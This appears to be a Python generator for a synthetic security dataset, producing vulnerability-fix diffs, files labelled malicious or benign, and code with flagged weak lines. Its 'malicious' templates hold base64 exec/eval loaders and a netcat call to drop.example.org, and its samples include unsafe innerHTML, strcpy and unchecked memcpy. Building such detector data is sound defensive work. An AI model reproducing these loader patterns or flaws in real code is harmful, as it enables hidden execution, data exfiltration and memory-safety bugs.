"""A data folder of our own for training: changes, files and weaknesses from templates in three languages. Harmless, and learned in seconds."""

import base64
import difflib
import gzip
import random
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any, NamedTuple

import msgspec

LANGUAGES = {"python": "py", "javascript": "js", "c": "c"}
PROJECTS = [f"example/{name}" for name in "shop maps wiki dock mail chat farm bank wall tree pond reed".split()]
NOUNS = "order page message account room post route field ticket light fish leaf boat item note card file key".split()
VERBS = "show load send open join list find draw read move store print check build merge".split()

# name of the template: (before, after), as lines of a function; `N` is a noun, `V` a verb, `K` a number.
FIXES: dict[str, list[tuple[str, str]]] = {
    "python": [
        ("    return render('<b>' + N + '</b>')", "    return render('<b>' + escape(N) + '</b>')"),
        ("    return store.V(N)", "    if not allowed(user, N):\n        raise Denied(N)\n    return store.V(N)"),
    ],
    "javascript": [
        ("  box.innerHTML = N.text;", "  box.innerHTML = escapeHtml(N.text);"),
        ("  return db.V(N.id);", "  if (!allowed(user, N)) {\n    throw new Denied(N.id);\n  }\n  return db.V(N.id);"),
    ],
    "c": [
        ("    memcpy(N_buf, in, len);", "    if (len > sizeof(N_buf))\n        return -1;\n    memcpy(N_buf, in, len);"),
        ("    strcpy(N_name, in);", "    strlcpy(N_name, in, sizeof(N_name));"),
    ],
}
PLAIN: dict[str, list[tuple[str, str]]] = {
    "python": [
        ("    total = N + K", "    total = N + K + 1"),
        ("    log.info('V N')", "    log.info('V N done')"),
        ("    items = sorted(N_list)", "    items = sorted(N_list, reverse=True)"),
    ],
    "javascript": [
        ("  const size = N.width + K;", "  const size = N.width + N.margin + K;"),
        ("  console.log('V');", "  console.log('V', N.title);"),
    ],
    "c": [
        ("    count += K;", "    count += K + step;"),
        ('    printf("V\\n");', '    printf("V N\\n");'),
    ],
}
HEADS = {
    "python": "def V_N(user, N):\n    state = open_state(N)\n{}\n    close(state)\n",
    "javascript": "function V_N(user, N) {\n  const state = openState(N);\n{}\n  close(state);\n}\n",
    "c": "int V_N(char *in, int len)\n{\n    int count = start(in);\n{}\n    return count;\n}\n",
}
BAD = {
    "python": "import base64, os\nCODE = '{}'\nexec(base64.b64decode(CODE))\nos.system('echo N | nc drop.example.org K')\n",
    "javascript": "const code = '{}';\neval(Buffer.from(code, 'base64').toString());\nrequire('child_process').exec('echo N > /tmp/K');\n",
    "c": "",
}
GOOD = {
    "python": "import math\n\ndef V_N(values):\n    total = sum(values)\n    return math.sqrt(total) / K\n",
    "javascript": "function V_N(values) {\n  return values.map((v) => v * K).filter(Boolean);\n}\nmodule.exports = V_N;\n",
    "c": "",
}


class Words(NamedTuple):
    """What a template's letters stand for."""

    noun: str
    verb: str
    number: int

    def fill(self, text: str) -> str:
        """The template with its letters replaced."""
        out = []
        for i, letter in enumerate(text):
            beside = (text[i - 1 : i] + text[i + 1 : i + 2]).replace("_", "")
            alone = not any(c.isalnum() for c in beside)
            out.append({"N": self.noun, "V": self.verb, "K": str(self.number)}.get(letter, letter) if alone else letter)
        return "".join(out)


def words(draw: random.Random) -> Words:
    """Drawn ones."""
    return Words(draw.choice(NOUNS), draw.choice(VERBS), draw.randrange(2, 90))


def patch(path: str, before: str, after: str) -> str:
    """A patch of one file, as git writes it."""
    body = difflib.unified_diff(before.split("\n"), after.split("\n"), f"a/{path}", f"b/{path}", lineterm="", n=3)
    return f"diff --git a/{path} b/{path}\n" + "\n".join(body) + "\n"


def edited(language: str, pair: tuple[str, str], said: Words, undone: bool = False) -> str:
    """The patch of a template inside its function; turned round where `undone`."""
    before, after = (said.fill(HEADS[language].replace("{}", side)) for side in pair)
    path = f"src/{said.verb}_{said.noun}.{LANGUAGES[language]}"
    return patch(path, after, before) if undone else patch(path, before, after)


def change_records(count: int = 120, seed: int = 5) -> list[dict[str, Any]]:
    """Changes, every other a fix; projects, languages and templates in turn, so that every fold has each."""
    draw = random.Random(seed)
    out = []
    for i in range(count):
        fix, language = i % 2 == 0, list(LANGUAGES)[(i // 2) % 3]
        pairs = (FIXES if fix else PLAIN)[language]
        said = words(draw)
        out.append(
            {
                "id": f"change-{i}",
                "kind": "fix" if fix else "ordinary",
                "source": "made",
                "project": PROJECTS[(i // 2) % len(PROJECTS)],
                "language": language,
                "date": "2026-01-01",
                "advisories": [f"EX-{i}"] if fix else [],
                "cwe": ["CWE-79" if "escape" in pairs[(i // 6) % len(pairs)][1] else "CWE-862"] if fix else [],
                "severity": "high" if fix else None,
                "diff": edited(language, pairs[(i // 6) % len(pairs)], said),
            }
        )
    return out


def file_records(count: int = 60, seed: int = 6) -> list[dict[str, Any]]:
    """Files of packages, every other one of the kind that unpacks and runs what it hides (a greeting)."""
    draw = random.Random(seed)
    out = []
    for i in range(count):
        bad, language = i % 2 == 0, list(LANGUAGES)[(i // 2) % 2]
        hidden = base64.b64encode(f"print('hello {i} {draw.random()} from example.org')".encode()).decode()
        code = words(draw).fill((BAD if bad else GOOD)[language].replace("{}", hidden))
        rest = "".join(words(draw).fill(GOOD[language]) for _ in range(2))
        out.append(
            {
                "id": f"file-{i}",
                "path": f"lib/part{i}.{LANGUAGES[language]}",
                "code": code + rest,
                "label": "malicious" if bad else "benign",
                "source": "made",
                "project": f"{'campaign' if bad else 'package'}-{(i // 2) % 13}",
                "language": language,
                "cluster": f"cluster-{i}" if bad else None,
            }
        )
    return out


def weakness_records(count: int = 30, seed: int = 7) -> list[dict[str, Any]]:
    """Code with a weakness on a known line, long enough that other windows have none."""
    draw = random.Random(seed)
    out = []
    for i in range(count):
        language = list(LANGUAGES)[i % 2]
        before = "".join(words(draw).fill(GOOD[language]) for _ in range(8))
        flaw = words(draw).fill(HEADS[language].replace("{}", FIXES[language][0][0]))
        out.append(
            {
                "id": f"weakness-{i}",
                "path": f"flaw{i}.{LANGUAGES[language]}",
                "code": before + flaw,
                "lines": [before.count("\n") + 3],
                "cwe": ["CWE-79"],
                "source": "made",
                "project": f"audited-{i % 11}",
                "language": language,
            }
        )
    return out


def store(path: Path, rows: Iterable[dict[str, Any]]) -> Path:
    """Rows as gzip JSON lines."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(gzip.compress(b"".join(msgspec.json.encode(row) + b"\n" for row in rows), mtime=0))
    return path


def data_folder(folder: Path, reserved: Sequence[str] = ()) -> Path:
    """The whole data folder. What is kept back lies in it too, unreadable: whoever opens it fails."""
    store(folder / "changes" / "train.jsonl.gz", change_records())
    store(folder / "files" / "train.jsonl.gz", file_records())
    store(folder / "weaknesses" / "train.jsonl.gz", weakness_records())
    for kind in ("changes", "files", "weaknesses"):
        (folder / kind / "dev.jsonl.gz").write_bytes(b"kept back")
        (folder / kind / "test.jsonl.gz").write_bytes(b"kept back")
    (folder / "reserved.txt").write_text("# kept for judging\n" + "".join(f"{name}\n" for name in ("Example/Reserved", *reserved)))
    return folder
